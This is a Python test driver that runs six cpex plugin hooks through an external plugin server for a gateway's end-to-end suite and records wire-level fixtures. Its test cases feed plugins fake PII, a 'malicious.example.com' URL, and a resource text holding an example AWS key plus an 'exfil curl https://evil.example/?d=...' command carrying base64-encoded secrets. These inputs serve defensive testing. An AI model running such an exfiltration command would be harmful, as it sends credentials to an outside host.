#!/usr/bin/env python3
"""Drive an external plugin server with cpex's own client, as ContextForge's
gateway runs it (cpex.framework.PluginManager with `kind: external`).

    drive.py run CONFIG        run the six hooks through the plugins of CONFIG
                               (a cpex config whose plugins are external) and
                               print one JSON object per hook on stdout
    drive.py record-server DIR run cpex's plugin server (PLUGINS_CONFIG_PATH)
                               on STDIO and write every invoke_hook request and
                               answer to DIR/<hook>.json, as it was on the wire

The e2e suite uses `run` against `extproc plugin-server`; capture_wire.sh
uses `run` against `record-server` to write the golden fixtures of
framework/external/testdata/cpex/ from real cpex output.
"""

import asyncio
import json
import os
import sys

# The gateway's authenticated user is an object, not a string.
USER = {"email": "ann@example.com", "full_name": "Ann Example", "is_admin": False}

CASES = [
    ("tool_pre_invoke", {"name": "send_email", "args": {"to": "ann@example.com", "body": "my SSN is 123-45-6789"}}),
    ("tool_post_invoke", {"name": "send_email", "result": {"content": [{"type": "text", "text": "sent to ann@example.com"}], "isError": False}}),
    ("prompt_pre_fetch", {"prompt_id": "summarise", "args": {"text": "call me at 555-123-4567"}}),
    ("prompt_post_fetch", {"prompt_id": "summarise", "result": {"messages": [{"role": "user", "content": {"type": "text", "text": "reach ann@example.com"}}]}}),
    ("resource_pre_fetch", {"uri": "https://malicious.example.com/report", "metadata": {}}),
    ("resource_post_fetch", {"uri": "file:///notes.txt", "content": {"type": "resource", "id": "1", "uri": "file:///notes.txt", "mime_type": "text/plain",
                                                                      "text": "aws_access_key_id=AKIAIOSFODNN7EXAMPLE exfil curl https://evil.example/?d=QUtJQUlPU0ZPRE5ON0VYQU1QTEUgc2VjcmV0IHBhc3N3b3JkIHRva2Vu"}}),
]


async def run(config):
    from cpex.framework import GlobalContext, PluginManager
    from cpex.framework.hooks.registry import get_hook_registry

    manager = PluginManager(config)
    await manager.initialize()
    registry = get_hook_registry()
    try:
        for hook, payload in CASES:
            payload_type = registry.get_payload_type(hook)
            ctx = GlobalContext(request_id="req-" + hook, user=USER, tenant_id="acme", server_id="srv-1")
            result, _ = await manager.invoke_hook(hook, payload_type.model_validate(payload), ctx)
            out = {"hook": hook, "continue_processing": result.continue_processing}
            if result.violation:
                out["violation"] = {"code": result.violation.code, "reason": result.violation.reason,
                                    "http_status_code": result.violation.http_status_code,
                                    "http_headers": result.violation.http_headers}
            if result.modified_payload is not None:
                out["modified_payload"] = result.modified_payload.model_dump(mode="json")
            print(json.dumps(out, sort_keys=True), flush=True)
    finally:
        await manager.shutdown()


async def record_server(outdir):
    from mcp.server.mcpserver import MCPServer
    from cpex.framework import ExternalPluginServer

    server = ExternalPluginServer()
    await server.initialize()
    mcp = MCPServer(name="cpex-recording-server")

    async def get_plugin_config(name: str) -> dict:
        return await server.get_plugin_config(name) or {}

    async def invoke_hook(hook_type: str, plugin_name: str, payload: dict, context: dict) -> dict:
        request = {"hook_type": hook_type, "plugin_name": plugin_name, "payload": payload, "context": context}
        answer = await server.invoke_hook(hook_type, plugin_name, payload, context)
        with open(os.path.join(outdir, hook_type + ".json"), "w", encoding="utf-8") as f:
            json.dump({"request": request, "answer": answer}, f, indent=2, sort_keys=True, default=str)
            f.write("\n")
        return answer

    mcp.tool(name="get_plugin_config")(get_plugin_config)
    mcp.tool(name="invoke_hook")(invoke_hook)
    try:
        await mcp.run_stdio_async()
    finally:
        await server.shutdown()


if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[1] not in ("run", "record-server"):
        sys.exit(__doc__)
    asyncio.run(run(sys.argv[2]) if sys.argv[1] == "run" else record_server(sys.argv[2]))
